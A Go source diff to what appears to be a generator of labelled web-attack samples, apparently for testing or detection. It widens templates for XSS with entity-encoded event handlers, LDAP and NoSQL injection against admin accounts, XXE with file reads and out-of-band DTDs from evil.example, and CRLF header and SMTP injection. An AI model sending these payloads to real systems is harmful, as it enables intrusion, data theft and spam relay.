@@ -173,7 +173,13 @@ func genXSS(r *rand.Rand) atk {
 	if r.IntN(8) == 0 {
 		v = pick(r, extra)
 	} else {
-		v = fmt.Sprintf(pick(r, tmpls), js)
+		t := pick(r, tmpls)
+		if strings.ContainsAny(js, " \t>") {
+			// an unquoted attribute value ends at a space or '>': quote it,
+			// or the handler is cut short and is no attack
+			t = strings.Replace(strings.Replace(t, "=%s", "=\"%s\"", 1), "=javascript:%s", "=\"javascript:%s\"", 1)
+		}
+		v = fmt.Sprintf(t, js)
 	}
 	a := atk{value: v, param: pick(r, []string{"q", "search", "comment", "name", "message", "redirect", "title", "callback", "returnUrl", "msg", "text", "bio"})}
 	switch r.IntN(9) {
@@ -184,13 +190,10 @@ func genXSS(r *rand.Rand) atk {
 			a.value, a.obf = xssWhitespace(a.value, r), "whitespace"
 		}
 	case 2:
-		if i := strings.Index(a.value, "=") + 1; i > 0 && strings.Contains(a.value[:i], " on") && strings.HasPrefix(a.value, "<") {
-			// entities in an event handler are decoded by the browser
-			end := strings.IndexAny(a.value[i:], "> ")
-			if end > 0 {
-				a.value = a.value[:i] + htmlEntities(a.value[i:i+end], r.IntN(2) == 0, r) + a.value[i+end:]
-				a.obf = "html_entity"
-			}
+		// entities in an event handler's value are decoded by the browser
+		// before the script runs
+		if v, ok := xssHandlerEntities(a.value, r); ok {
+			a.value, a.obf = v, "html_entity"
 		}
 	case 3:
 		if strings.Contains(a.value, "(") {
@@ -206,6 +209,34 @@ func genXSS(r *rand.Rand) atk {
 		}
 	}
 	return a
+}
+
+// xssHandlerEntities encodes the value of the first event-handler
+// attribute (on...=) of a tag as character references, keeping its quotes.
+func xssHandlerEntities(s string, r *rand.Rand) (string, bool) {
+	if !strings.HasPrefix(s, "<") {
+		return "", false
+	}
+	j := strings.Index(s, " on")
+	if j < 0 {
+		return "", false
+	}
+	k := strings.IndexByte(s[j:], '=')
+	if k < 0 || strings.ContainsAny(s[j+1:j+k], " >") {
+		return "", false
+	}
+	i := j + k + 1
+	end := -1
+	if i < len(s) && (s[i] == '"' || s[i] == '\'') {
+		i++
+		end = strings.IndexByte(s[i:], s[i-1])
+	} else {
+		end = strings.IndexAny(s[i:], "> \t\n")
+	}
+	if end <= 0 {
+		return "", false
+	}
+	return s[:i] + htmlEntities(s[i:i+end], r.IntN(2) == 0, false, r) + s[i+end:], true
 }
 
 func xssTagCase(s string, r *rand.Rand) string {
@@ -435,11 +466,15 @@ func genSSRF(r *rand.Rand) atk {
 
 func genLDAP(r *rand.Rand) atk {
 	attr := pick(r, []string{"uid", "cn", "mail", "userPassword", "sAMAccountName", "objectClass", "description"})
+	u := pick(r, []string{"admin", "administrator", "root", "jdoe", "svc_backup", "helpdesk", "m.mueller", "guest"})
+	grp := pick(r, []string{"Domain Admins", "Administrators", "Enterprise Admins", "IT", "vpn-users"})
+	pre := pick(r, []string{"a", "s", "p", "1", "x"})
 	tmpls := []string{
-		"*)(" + attr + "=*))(|(" + attr + "=*", "*(|(objectclass=*))", "admin)(&)", "admin)(|(password=*))", "*)(|(mail=*))", "x)(|(cn=*)",
-		"*))\x00", "admin*)((|userPassword=*)", "*)(objectClass=*))(&(objectClass=void", ")(cn=*))(|(cn=*", "*)(" + attr + "=*",
-		"admin)(!(&(1=0)(userPassword=x)))", "*)(&(objectClass=user)(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=example))", "*)(uid=*))(|(uid=*",
-		"jdoe)(|(objectClass=*)", "*)(userPassword=a*", "admin)(userPassword=*)", "*)(|(cn=admin)(cn=root)", "*(|(mail=*))",
+		"*)(" + attr + "=*))(|(" + attr + "=*", "*(|(objectclass=*))", u + ")(&)", u + ")(|(password=*))", "*)(|(mail=*))", "x)(|(cn=*)",
+		"*))\x00", u + "*)((|userPassword=*)", "*)(objectClass=*))(&(objectClass=void", ")(cn=*))(|(cn=*", "*)(" + attr + "=*",
+		u + ")(!(&(1=0)(userPassword=x)))", "*)(&(objectClass=user)(memberOf=CN=" + grp + ",CN=Users,DC=corp,DC=example))", "*)(uid=*))(|(uid=*",
+		u + ")(|(objectClass=*)", "*)(userPassword=" + pre + "*", u + ")(userPassword=*)", "*)(|(cn=" + u + ")(cn=root)", "*(|(mail=*))",
+		u + ")(|(" + attr + "=*))", "*)(|(" + attr + "=" + pre + "*)",
 	}
 	a := atk{value: pick(r, tmpls), param: pick(r, []string{"user", "username", "uid", "login", "cn", "filter", "search", "name", "group", "member"})}
 	if r.IntN(6) == 0 {
@@ -451,6 +486,10 @@ func genLDAP(r *rand.Rand) atk {
 func genNoSQL(r *rand.Rand) atk {
 	user := pick(r, []string{"username", "user", "login", "email", "name"})
 	pass := pick(r, []string{"password", "pass", "pwd", "passwd"})
+	// the targeted account, prefixes and delays vary
+	who := pick(r, []string{"admin", "root", "administrator", "support", "jdoe", "superuser"})
+	ms := fmt.Sprint(1000 * (2 + r.IntN(9)))
+	pre := pick(r, []string{"^a", "^adm", "^r", "^s", "^1", "^p"})
 	switch r.IntN(4) {
 	case 0, 1: // operator objects: JSON bodies, bracket syntax in query and forms
 		op := pick(r, []string{"$ne", "$gt", "$regex", "$nin", "$exists", "$in", "$where", "$expr"})
@@ -458,30 +497,33 @@ func genNoSQL(r *rand.Rand) atk {
 		var argV string
 		switch op {
 		case "$ne":
-			v, argV = map[string]any{op: nil}, "x"
+			x := pick(r, []string{"x", "1", "", "null", randAlnum(r, 6)})
+			v, argV = map[string]any{op: x}, x
 		case "$gt":
 			v, argV = map[string]any{op: ""}, ""
 		case "$regex":
-			v, argV = map[string]any{op: ".*"}, "^adm"
+			x := pick(r, []string{".*", pre, pre + ".*", "^.{" + fmt.Sprint(1+r.IntN(12)) + "}$"})
+			v, argV = map[string]any{op: x}, x
 		case "$nin":
-			v, argV = map[string]any{op: []any{"a"}}, "a"
+			x := pick(r, []string{"a", "x", "guest", randAlnum(r, 5)})
+			v, argV = map[string]any{op: []any{x}}, x
 		case "$exists":
 			v, argV = map[string]any{op: true}, "true"
 		case "$in":
-			v, argV = map[string]any{op: []any{"admin", "root"}}, "admin"
+			v, argV = map[string]any{op: []any{who, "root"}}, who
 		case "$where":
-			w := pick(r, []string{"sleep(5000) || true", "function(){var d=new Date();while(new Date()-d<5000){};return true;}", "this.password.match(/^a/)", "1==1", "while(true){}"})
-			return atk{jsonValue: map[string]any{user: "admin", "$where": w}, argName: "$where", argValue: w, value: w, param: "filter"}
+			w := pick(r, []string{"sleep(" + ms + ") || true", "function(){var d=new Date();while(new Date()-d<" + ms + "){};return true;}", "this.password.match(/" + pre + "/)", "1==1", "while(true){}", "this." + pass + ".length > " + fmt.Sprint(r.IntN(20))})
+			return atk{jsonValue: map[string]any{user: who, "$where": w}, argName: "$where", argValue: w, value: w, param: "filter"}
 		case "$expr":
 			v = map[string]any{"$function": map[string]any{"body": "function(){return true}", "args": []any{}, "lang": "js"}}
 			return atk{jsonValue: map[string]any{"$expr": v}, argName: "filter[$expr][$function][body]", argValue: "function(){return true}", value: "function(){return true}", param: "filter"}
 		}
-		obj := map[string]any{user: pick(r, []any{"admin", v}), pass: v}
+		obj := map[string]any{user: pick(r, []any{who, v}), pass: v}
 		return atk{jsonValue: obj, argName: pass + "[" + op + "]", argValue: argV, param: pass, value: jsonMarshal(obj)}
 	default: // injection into a server-side JavaScript expression ($where with string concatenation)
-		v := pick(r, []string{"' || 'a'=='a", "';sleep(5000);'", "1; return true", "'; while(true){}; '", "admin' && this.password.match(/.*/)//",
-			"'; return db.users.find(); var x='", "0;var date=new Date(); do{curDate = new Date();}while(curDate-date<5000)", "' || 1==1//", "\"; return true; var a=\"",
-			"'||this.role=='admin'||'"})
+		v := pick(r, []string{"' || 'a'=='a", "';sleep(" + ms + ");'", "1; return true", "'; while(true){}; '", who + "' && this." + pass + ".match(/" + pre + ".*/)//",
+			"'; return db." + pick(r, []string{"users", "accounts", "customers"}) + ".find(); var x='", "0;var date=new Date(); do{curDate = new Date();}while(curDate-date<" + ms + ")", "' || 1==1//", "\"; return true; var a=\"",
+			"'||this.role=='" + who + "'||'", who + "'||'1'=='1"})
 		return atk{value: v, param: pick(r, []string{user, "q", "name", "search"}), obf: ""}
 	}
 }
@@ -496,7 +538,7 @@ func genXXE(r *rand.Rand) atk {
 		decl + `<!DOCTYPE ` + root + ` [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]><` + root + `>x</` + root + `>`,
 		decl + `<!DOCTYPE ` + root + ` [<!ENTITY % file SYSTEM "` + f + `"><!ENTITY % dtd SYSTEM "http://evil.example/oob.dtd">%dtd;%send;]><` + root + `/>`,
 		decl + `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><lolz>&lol4;</lolz>`,
-		`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE x [<!ENTITY xxe SYSTEM "` + f + `">]><soap:Body><getUser><id>&xxe;</id></getUser></soap:Body></soap:Envelope>`,
+		`<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "` + f + `">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&xxe;</id></getUser></soap:Body></soap:Envelope>`,
 		`<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "` + f + `">]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>`,
 		`<` + root + ` xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="` + f + `"/></` + root + `>`,
 		decl + `<!DOCTYPE ` + root + ` SYSTEM "http://evil.example/x.dtd"><` + root + `>&ent;</` + root + `>`,
@@ -507,13 +549,26 @@ func genXXE(r *rand.Rand) atk {
 }
 
 func genCRLF(r *rand.Rand) atk {
+	// names, hosts and values vary, so the same injection shape comes in
+	// many concrete requests
+	user := pick(r, []string{"user", "jdoe", "alice", "m.mueller", "support", "billing", "noreply", "info"})
+	dom := pick(r, []string{"example.com", "example.org", "example.net", "mail.example.com"})
+	evil := pick(r, []string{"evil.example", "attacker.example", "x.oast.example", "203.0.113.7"})
+	victim := pick(r, []string{"victim", "victims", "list", "all", "staff", "x"}) + "@" + pick(r, []string{"example.net", "evil.example", "example.org"})
+	ck := pick(r, []string{"admin", "sessionid", "role", "sid", "is_admin", "auth", "PHPSESSID"})
+	cv := randAlnum(r, 1+r.IntN(12))
+	hdr := pick(r, []string{"X-Injected", "X-Debug", "X-Test", "X-Custom", "X-Cache-Key"})
+	page := pick(r, []string{"/home", "/", "/account", "/redirect", "/login", "/en/"})
 	tmpls := []string{
-		"/home\r\nSet-Cookie: admin=1", "en\r\nX-Injected: 1", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
-		"user@example.com\r\nBcc: victims@example.net", "me@example.org\nCc: a@evil.example\nSubject: hi", "x@example.com\r\n\r\nRCPT TO:<victim@example.net>\r\nDATA\r\nSubject: spam\r\n\r\nbuy now\r\n.\r\n",
-		"test\r\nLocation: http://evil.example/", "/\r\n\r\n<html><body>defaced</body></html>", "a@b.example>\r\nRCPT TO:<x@evil.example>\r\nDATA",
-		"Hello\r\nBcc: list@evil.example\r\nContent-Type: text/html", "news\r\nSet-Cookie: sessionid=attacker; Path=/", "x\nMAIL FROM:<spoof@bank.example>\nRCPT TO:<x@evil.example>",
-		"support@example.com%0ACc:all@evil.example", "value\r\nAccess-Control-Allow-Origin: *", "/redirect\r\nRefresh: 0; url=http://evil.example/",
-		"subject line\r\nTo: victim@example.net", "x\r\nX-Forwarded-For: 127.0.0.1", "foo\r\n\r\nQUIT\r\n", "a\rSet-Cookie: x=y",
+		page + "\r\nSet-Cookie: " + ck + "=" + cv, pick(r, []string{"en", "de", "fr-FR", "ja"}) + "\r\n" + hdr + ": " + cv,
+		"x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
+		user + "@" + dom + "\r\nBcc: " + victim, user + "@" + dom + "\nCc: a@" + evil + "\nSubject: " + pick(r, []string{"hi", "invoice", "urgent", "re: your order"}),
+		user + "@" + dom + "\r\n\r\nRCPT TO:<" + victim + ">\r\nDATA\r\nSubject: spam\r\n\r\nbuy now\r\n.\r\n",
+		"test\r\nLocation: http://" + evil + "/", page + "\r\n\r\n<html><body>defaced</body></html>", user + "@" + dom + ">\r\nRCPT TO:<" + victim + ">\r\nDATA",
+		"Hello\r\nBcc: " + victim + "\r\nContent-Type: text/html", "news\r\nSet-Cookie: " + ck + "=" + cv + "; Path=/", "x\nMAIL FROM:<spoof@bank.example>\nRCPT TO:<" + victim + ">",
+		user + "@" + dom + "%0ACc:" + victim, "value\r\nAccess-Control-Allow-Origin: *", page + "\r\nRefresh: 0; url=http://" + evil + "/",
+		"subject line\r\nTo: " + victim, "x\r\nX-Forwarded-For: 127.0.0.1", "foo\r\n\r\nQUIT\r\n", "a\rSet-Cookie: " + ck + "=" + cv,
+		page + "\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>", user + "\r\nReply-To: " + victim,
 	}
 	v := pick(r, tmpls)
 	v = strings.ReplaceAll(v, "%0A", "\n")
